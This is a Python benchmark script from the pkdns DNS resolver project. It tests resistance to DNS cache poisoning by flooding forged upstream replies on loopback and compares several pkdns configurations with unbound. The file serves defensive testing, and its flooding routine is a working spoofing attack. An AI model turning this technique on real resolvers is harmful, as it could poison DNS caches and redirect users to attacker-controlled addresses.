"""Forged upstream replies when the source port is known (issue 13 item 6), pkdns beside unbound.

    .venv/bin/python bench/attacks/spoof.py [--attempts 200] [--forged 20000] [--delay 0.3]
                                            [--servers pkdns,pkdns-no0x20,unbound] [--out F]

The spoofer sits where the SAD DNS side channel or an on-path observer puts it: it learns the
source port of every upstream query (here: it sees the query reach the fake upstream) but
not its ID nor its 0x20 case. For each query it sends ``--forged`` forged answers with random
IDs to that port, from the upstream's own address and port (the fake upstream's socket), for
the name in lowercase with A 203.0.113.66; the real answer (A 192.0.2.1) follows after
``--delay`` seconds. Over TCP the upstream answers truly (an off-path spoofer cannot inject
there). ``--attempts`` fresh names are asked one after another; a name is poisoned when the
client gets 203.0.113.66.

Servers: ``pkdns`` (default configuration), ``pkdns-no0x20`` (``upstream_0x20 = false``:
the near-miss limit alone), ``pkdns-nolimit`` (neither 0x20 nor the near-miss limit: what
the code did before), ``unbound`` (forward-zone "." to the same upstream, its defaults:
no 0x20, ``unwanted-reply-threshold`` 0). For pkdns the script also reads /metrics
(``pkdns_upstream_spoofing_total``, unwanted replies) and counts the
``upstream_spoofing_suspected`` log lines. Loopback only; every process is stopped.
"""

from __future__ import annotations

import argparse
import json
import multiprocessing
import multiprocessing.process
import os
import re
import socket
import subprocess
import sys
import tempfile
import time
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import dns.message

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

from bench.attacks.common import loopback_unbound  # noqa: E402
from tests.support.daemon import PKDNS, json_lines, stop_process  # noqa: E402
from tests.support.knot import free_port  # noqa: E402
from tests.support.upstream import Delayed, FakeUpstream, Reply, Seen, answer  # noqa: E402

_FORK = multiprocessing.get_context("fork")

EVIL, GOOD = "203.0.113.66", "192.0.2.1"
CONFIGS = {
    "pkdns": "",
    "pkdns-no0x20": "[dns]\nupstream_0x20 = false\n",
    "pkdns-nolimit": "[dns]\nupstream_0x20 = false\nupstream_nearmiss_max = 0\n",
}


class Spoofer:
    """The fake upstream's handler: tells the flooding process the query's port, answers
    the truth after ``delay`` (over TCP at once).

    The flood comes from a separate process that shares the fake upstream's UDP socket
    (forked after the socket is bound), so the forgeries leave from the upstream's own
    address and port while the upstream thread goes on serving (retries, TCP).
    """

    def __init__(self, forged: int, delay: float) -> None:
        self.forged, self.delay = forged, delay
        self.jobs: multiprocessing.Queue[tuple[int, bytes, float] | None] = _FORK.Queue()
        self.sent = _FORK.Value("q", 0)
        self.proc: multiprocessing.process.BaseProcess | None = None

    def start(self, sock: socket.socket) -> None:
        self.proc = _FORK.Process(target=_flood, daemon=True,
                                  args=(sock, self.jobs, self.forged, self.delay, self.sent))
        self.proc.start()

    def stop(self) -> None:
        self.jobs.put(None)
        if self.proc is not None:
            self.proc.join(10)

    def __call__(self, data: bytes, transport: str, port: int = 0) -> Reply:
        name = str(dns.message.from_wire(data).question[0].name)
        real = answer(data, f"{name} 300 IN A {GOOD}")
        if transport == "tcp":
            return real
        lower = dns.message.make_query(name.lower(), "A").to_wire()
        body = answer(lower, f"{name.lower()} 300 IN A {EVIL}")[2:]
        self.jobs.put((port, body, time.monotonic() + self.delay))
        return Delayed(real, self.delay)


def _flood(sock: socket.socket, jobs: multiprocessing.Queue[tuple[int, bytes, float] | None],
           forged: int, window: float, sent: Any) -> None:
    """Per query: up to ``forged`` forgeries with random IDs, until its real answer is due
    (what arrives later is useless to a spoofer)."""
    while (job := jobs.get()) is not None:
        port, body, until = job
        ids = os.urandom(2 * forged)
        dest = ("127.0.0.1", port)
        send, clock = sock.sendto, time.monotonic
        k = 0
        while k < 2 * forged and (k & 255 or clock() < until):
            try:
                send(ids[k:k + 2] + body, dest)
            except OSError:
                pass
            k += 2
        with sent.get_lock():
            sent.value += k // 2


class PortAwareUpstream(FakeUpstream):
    """A FakeUpstream whose handler also learns the query's source port."""

    def _handle_from(self, data: bytes, addr: tuple[str, int]) -> Reply:
        try:
            return self.handler(data, "udp", addr[1])  # type: ignore[call-arg]
        except Exception:
            return None

    def _udp_one(self) -> None:
        try:
            data, addr = self.udp.recvfrom(65535)
        except OSError:
            return
        self.seen.append(Seen(data, addr, "udp"))
        self._send_udp(self._handle_from(data, addr), addr)


def ask(port: int, name: str) -> str:
    """The first A address the server at 127.0.0.1:``port`` gives for ``name`` ("" if none)."""
    import dns.query
    try:
        r = dns.query.udp(dns.message.make_query(name, "A"), "127.0.0.1", port=port, timeout=4)
    except Exception:
        return ""
    for rrset in r.answer:
        for rd in rrset:
            return str(getattr(rd, "address", ""))
    return ""


@contextmanager
def pkdns(upstream: FakeUpstream, tmp: Path, config: str, binary: str
          ) -> Iterator[tuple[int, int, Path]]:
    """The daemon with HTTP on (for /metrics): (DNS port, HTTP port, log path)."""
    http_port = free_port()
    log_path = tmp / "pkdns.log"
    conf = tmp / "pkdns.toml"
    conf.write_text(config)
    cmd = [binary, "serve", "--listen", "127.0.0.1:0", "--http", f"127.0.0.1:{http_port}",
           "--log-format", "json", "--state-dir", str(tmp / "state"), "--config", str(conf),
           "--upstream", upstream.addr, "--dht-port", "0", "--bootstrap", "127.0.0.1:9"]
    with open(log_path, "wb") as out:
        proc = subprocess.Popen(cmd, stdout=out, stderr=subprocess.STDOUT)
    try:
        deadline, port = time.monotonic() + 20, 0
        while not port and time.monotonic() < deadline:
            for ev in json_lines(log_path):
                if ev.get("event") == "listening":
                    port = int(ev["udp"][0].rsplit(":", 1)[1])
            time.sleep(0.05)
        if not port:
            raise RuntimeError(f"pkdns did not start: {log_path.read_text()}")
        yield port, http_port, log_path
    finally:
        stop_process(proc, 15, 10)


@contextmanager
def unbound(upstream: FakeUpstream, tmp: Path) -> Iterator[int]:
    with loopback_unbound([(upstream.host, upstream.port)], tmp, free_port()) as port:
        yield port


def metrics(http_port: int) -> dict[str, float]:
    text = urllib.request.urlopen(f"http://127.0.0.1:{http_port}/metrics", timeout=5).read()
    out: dict[str, float] = {}
    for line in text.decode().splitlines():
        m = re.match(r'pkdns_upstream_(spoofing_total|failures_total)\{(.*)\} (\S+)', line)
        if m:
            reason = re.search(r'reason="([^"]*)"', m.group(2))
            key = f"{m.group(1)}:{reason.group(1) if reason else ''}"
            out[key] = out.get(key, 0.0) + float(m.group(3))
    return out


def run(server: str, attempts: int, forged: int, delay: float, binary: str) -> dict[str, object]:
    spoofer = Spoofer(forged, delay)
    got = {"poisoned": 0, "good": 0, "failed": 0}
    extra: dict[str, object] = {}
    up = PortAwareUpstream(spoofer)  # type: ignore[arg-type]
    spoofer.start(up.udp)                # forked before the upstream's thread starts
    with tempfile.TemporaryDirectory(prefix="pkdns-spoof-") as tmp_s, up:
        tmp = Path(tmp_s)
        start = time.monotonic()
        if server == "unbound":
            with unbound(up, tmp) as port:
                for i in range(attempts):
                    _count(got, ask(port, f"n{i}.victim.example"))
        else:
            with pkdns(up, tmp, CONFIGS[server], binary) as (port, http_port, log_path):
                for i in range(attempts):
                    _count(got, ask(port, f"n{i}.victim.example"))
                extra["metrics"] = metrics(http_port)
                extra["log_lines"] = sum(e.get("event") == "upstream_spoofing_suspected"
                                         for e in json_lines(log_path))
        extra["seconds"] = round(time.monotonic() - start, 1)
        extra["upstream_udp"] = len(up.queries("udp"))
        extra["upstream_tcp"] = len(up.queries("tcp"))
    spoofer.stop()
    return {"server": server, "attempts": attempts, "forged_per_query": forged,
            "delay": delay, "forged_sent": spoofer.sent.value,
            "forged_per_query_reached": round(spoofer.sent.value / max(1, extra_udp(extra))),
            **got, **extra}


def extra_udp(extra: dict[str, object]) -> int:
    n = extra.get("upstream_udp", 0)
    return n if isinstance(n, int) else 0


def _count(got: dict[str, int], address: str) -> None:
    got["poisoned" if address == EVIL else "good" if address == GOOD else "failed"] += 1


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--attempts", type=int, default=200)
    ap.add_argument("--forged", type=int, default=20000)
    ap.add_argument("--delay", type=float, default=0.3)
    ap.add_argument("--servers", default="pkdns,pkdns-no0x20,pkdns-nolimit,unbound")
    ap.add_argument("--pkdns", default=PKDNS, help="pkdns executable")
    ap.add_argument("--out", help="also write the figures as JSON here")
    args = ap.parse_args()
    rows = []
    for server in args.servers.split(","):
        row = run(server, args.attempts, args.forged, args.delay, args.pkdns)
        rows.append(row)
        print(json.dumps(row), flush=True)
    if args.out:
        Path(args.out).write_text(json.dumps(rows, indent=1))
    return 0


if __name__ == "__main__":
    os.environ.setdefault("PYTHONWARNINGS", "ignore")
    sys.exit(main())
